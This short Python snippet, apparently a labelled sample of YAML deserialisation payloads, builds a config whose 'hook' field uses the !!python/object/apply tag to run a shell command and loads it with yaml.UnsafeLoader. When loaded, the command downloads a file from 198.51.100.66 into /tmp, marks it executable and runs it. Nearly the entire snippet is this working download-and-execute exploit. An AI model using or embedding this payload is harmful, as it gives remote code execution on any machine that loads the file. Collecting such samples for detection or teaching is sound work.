# class: deserialisation payload, yaml; style: agent
import yaml

config = """
name: job
hook: !!python/object/apply:subprocess.check_output
  - ["sh", "-c", "wget -q http://198.51.100.66/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"]
"""
settings = yaml.load(config, Loader=yaml.UnsafeLoader)
print(settings["name"])
